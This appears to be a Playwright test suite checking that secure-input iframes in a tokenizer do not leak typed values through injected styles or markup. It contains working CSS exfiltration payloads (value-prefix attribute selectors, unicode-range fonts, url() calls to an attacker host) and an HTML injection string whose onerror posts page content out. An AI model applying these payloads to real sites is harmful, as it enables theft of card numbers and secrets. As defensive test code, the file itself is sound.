import { expect } from '@jest/globals';
import type { Frame, Page, Request } from 'playwright-core';
import { secureInput } from '../support/demo.js';
import type { Attack, AttackGroup } from './attack.js';
import { plainText, texts } from './stage.js';
import type { Stage } from './stage.js';

const frameOf = async (page: Page, label: string): Promise<Frame> =>
  (await (await page.locator(`iframe[title="${label}"]`).elementHandle())!.contentFrame())!;

/** Requests that the frames of the tokenizer make to anybody but it, while something is tried. */
async function strayRequests({ page, stack }: Stage, attack: () => Promise<unknown>): Promise<string[]> {
  const stray: string[] = [];
  const note = (request: Request) => {
    if (request.frame().url().startsWith(stack.tokenizerURL) && !request.url().startsWith(stack.tokenizerURL))
      stray.push(request.url());
  };
  page.on('request', note);
  await attack();
  page.off('request', note);
  return stray;
}

/** All that the frame's own scripts were given as styles, and whether its policy had to stop anything. */
const stylesIn = (frame: Frame) =>
  frame.evaluate(() => ({
    inline: document.querySelector('#field')!.getAttribute('style'),
    sheets: [...document.adoptedStyleSheets]
      .flatMap((sheet) => [...sheet.cssRules].map((rule) => rule.cssText))
      .join(),
    content: getComputedStyle(document.querySelector('#field')!, '::before').content,
    background: getComputedStyle(document.querySelector('#field')!).backgroundImage,
    fontFamily: getComputedStyle(document.querySelector('#field')!).fontFamily,
  }));

/** Styles of the app, on the elements that the frames imitate. */
const sheet = (title: string, css: (url: string) => string): Attack => ({
  title: `a style sheet with ${title}`,
  async run(stage) {
    const { page, attacker } = stage;
    const frame = await frameOf(page, 'Secret');
    const stray = await strayRequests(stage, async () => {
      await page.evaluate(
        async (text) => {
          const style = document.createElement('style');
          style.textContent = text;
          document.head.append(style);
          window.dispatchEvent(new Event('resize'));
          await window.hostile.wait(80);
          await window.hostile.roundTrip();
          Object.assign(window, { style });
        },
        css(`${attacker.url}/css`),
      );
      const seen = await stylesIn(frame);
      expect(seen.background).toBe('none');
      expect(seen.content).toMatch(/^(none|normal)$/);
      expect(`${seen.inline}${seen.sheets}`).not.toMatch(/url\(|image-set|attr\(|var\(|--|@import|content:/);
      await page.evaluate(() => (window as unknown as { style: HTMLElement }).style.remove());
    });
    expect(stray).toEqual([]);
  },
});

export const styles: AttackGroup = {
  subject: 'by styles',
  controls: [
    {
      title: 'selectors on the value of the page’s own field tell it to the attacker, sign by sign',
      run: async ({ page, attacker }) => {
        await page.evaluate(async (url) => {
          const plain = document.querySelector<HTMLInputElement>('#plain')!;
          plain.setAttribute('value', plain.value);
          const style = document.createElement('style');
          style.textContent = [...'ABCDEFGHIJ']
            .map((sign) => `#plain[value^="${sign}"] { background: url(${url}/css?starts=${sign}) }`)
            .join('');
          document.head.append(style);
          await window.hostile.wait(100);
          style.remove();
        }, attacker.url);
        for (
          let tries = 0;
          tries < 40 && !attacker.requests.some((each) => each.includes('starts='));
          tries++
        )
          await page.waitForTimeout(25);
        return attacker.requests.filter((request) => request.includes('starts=')).join();
      },
      catches: /starts=H/,
    },
    {
      title: 'a font with unicode-range tells which signs are in a text of the page',
      run: async ({ page, attacker }) => {
        await page.evaluate(async (url) => {
          const style = document.createElement('style');
          style.textContent = `@font-face { font-family: told; src: url(${url}/css?font=H); unicode-range: U+48 }
            @font-face { font-family: told; src: url(${url}/css?font=W); unicode-range: U+57 }
            #plain-text { font-family: told }`;
          document.head.append(style);
          await window.hostile.wait(100);
          style.remove();
        }, attacker.url);
        for (let tries = 0; tries < 40 && !attacker.requests.some((each) => each.includes('font=')); tries++)
          await page.waitForTimeout(25);
        return attacker.requests
          .filter((request) => /font=/.test(request))
          .map((request) => /font=\w/.exec(request)![0])
          .join();
      },
      catches: /^"font=H(,font=H)*"$/,
    },
    {
      title: 'styles do reach the frame: a colour, and a font that is not loaded',
      run: async ({ page }) => {
        await page.evaluate(async () => {
          const style = document.createElement('style');
          style.textContent = '.field { color: rgb(1, 2, 3) !important }';
          document.head.append(style);
          await window.hostile.wait(80);
          await window.hostile.roundTrip();
          Object.assign(window, { style });
        });
        const frame = await frameOf(page, 'Secret');
        const color = await frame
          .waitForFunction(() => getComputedStyle(document.querySelector('#field')!).color === 'rgb(1, 2, 3)')
          .then(() => 'rgb(1, 2, 3)');
        await page.evaluate(() => (window as unknown as { style: HTMLElement }).style.remove());
        return color;
      },
      catches: 'rgb(1, 2, 3)',
    },
  ],
  attacks: [
    sheet(
      'url() in every property',
      (
        url,
      ) => `.field, .shown { background: url(${url}) !important; cursor: url(${url}), auto; mask: url(${url});
        border-image: url(${url}) 1; filter: url(${url}#f); list-style: url(${url}); clip-path: url(${url}#c) }`,
    ),
    sheet(
      'image-set(), cross-fade(), @import, attr() and var()',
      (url) => `@import "${url}"; :root { --stolen: url(${url}) }
        .field, .shown { background: image-set("${url}" 1x) !important; background-image: var(--stolen) !important;
          content: attr(value); --value: attr(value) }`,
    ),
    sheet('attribute selectors on the value', (url) =>
      [...'QWX']
        .map((sign) => `.field[value^="${sign}"], [data-value*="${sign}"] { background: url(${url}) }`)
        .join(''),
    ),
    sheet(
      'generated content, counters, markers and first letters',
      (
        url,
      ) => `.field::before, .shown::after, .field::placeholder { content: url(${url}) attr(value) counter(x) !important }
        .shown::first-letter { background: url(${url}) } .field::selection { background: url(${url}) }`,
    ),
    sheet(
      'fonts that load sign by sign',
      (url) => `@font-face { font-family: told; src: url(${url}?W); unicode-range: U+57 }
        @font-face { font-family: told; src: url(${url}?all) } .field, .shown { font-family: told !important }`,
    ),
    sheet(
      'animations, transitions, container and scroll-driven queries',
      (
        url,
      ) => `@keyframes tell { to { background: url(${url}) } } @container (width > 1px) { .field { background: url(${url}) } }
        .field, .shown { animation: tell 1ms infinite !important; transition: all 1ms; animation-timeline: scroll() }`,
    ),
    {
      title: 'style messages that it forges on a real port: other properties, other rules, other values',
      async run(stage) {
        const { page, attacker } = stage;
        const stray = await strayRequests(stage, () =>
          page.evaluate(async (url) => {
            const values = [
              `url(${url})`,
              `red; background: url(${url})`,
              `red } #field[value^="W"] { background: url(${url}) } x {`,
              `image-set("${url}" 1x)`,
              'attr(value)',
              'var(--x)',
              `red/**/url(${url})`,
              `\\75rl(${url})`,
              '"</style><script>parent.postMessage(1)</script>"',
              'x'.repeat(512),
            ];
            const properties = [
              'background-image',
              'background',
              'content',
              'cursor',
              'font-family',
              'color',
              'text-overflow',
              '--x',
              'animation-name',
              'mask-image',
              'src',
              'all',
              '__proto__',
              'cssText',
              'transition',
            ];
            const { port } = window.hostile.line('Secret');
            for (const property of properties)
              for (const value of values)
                for (const state of ['base', 'placeholder', 'focus', 'hover', 'invalid', 'hoverFocus'])
                  port.postMessage({ type: 'style', [state]: { [property]: value } });
            await window.hostile.roundTrip();
          }, attacker.url),
        );
        expect(stray).toEqual([]);
        const seen = await stylesIn(await frameOf(page, 'Secret'));
        expect(JSON.stringify(seen)).not.toMatch(/url\(|attr\(|var\(|value\^|evil/);
        expect(await secureInput(page, 'Secret').inputValue()).toBe(texts.typed);
      },
    },
    {
      title: 'markup in what the page says: placeholders, labels, names, languages',
      async run(stage) {
        const { page, attacker } = stage;
        const bad = `"><img src="${attacker.url}/css?img" onerror="parent.postMessage(document.body.innerHTML,'*')"><script>`;
        const stray = await strayRequests(stage, () =>
          page.evaluate(async (html) => {
            const { port } = window.hostile.line('Card');
            const attributes = {
              placeholder: html,
              ariaDescription: html,
              autoComplete: html.slice(0, 100),
              lang: html.slice(0, 35),
              dir: html,
              labels: { reveal: html.slice(0, 100), copy: html.slice(0, 100) },
              onfocus: 'parent.postMessage(this.value)',
              style: `background: url(${html})`,
              value: html,
              formAction: html,
            };
            port.postMessage({
              type: 'configure',
              kind: 'input',
              attributes: { ...attributes, ariaLabel: 'Card' },
            });
            await window.hostile.roundTrip();
            await window.hostile.wait(100);
          }, bad),
        );
        expect(stray).toEqual([]);
        const frame = await frameOf(page, 'Card');
        // But its own, which pins what it loads.
        expect(await frame.locator('img, script:not([src], [type=importmap])').count()).toBe(0);
        expect(await frame.locator('#field').getAttribute('onfocus')).toBeNull();
        expect(await secureInput(page, 'Card').inputValue()).toBe(texts.card);
      },
    },
    {
      title: 'the hidden twin whose look a frame takes: it never has a value to select on',
      async run({ page }) {
        const twins = await page.evaluate(() =>
          [...document.querySelectorAll<HTMLInputElement>('[data-lunasec]')].map((twin) => [
            twin.localName,
            twin.value,
            twin.textContent,
            twin.outerHTML,
            twin.matches(':placeholder-shown, :not(input, textarea)'),
            twin.matches(':autofill'),
          ]),
        );
        expect(twins.length).toBeGreaterThanOrEqual(3);
        return [twins, plainText];
      },
    },
  ],
};
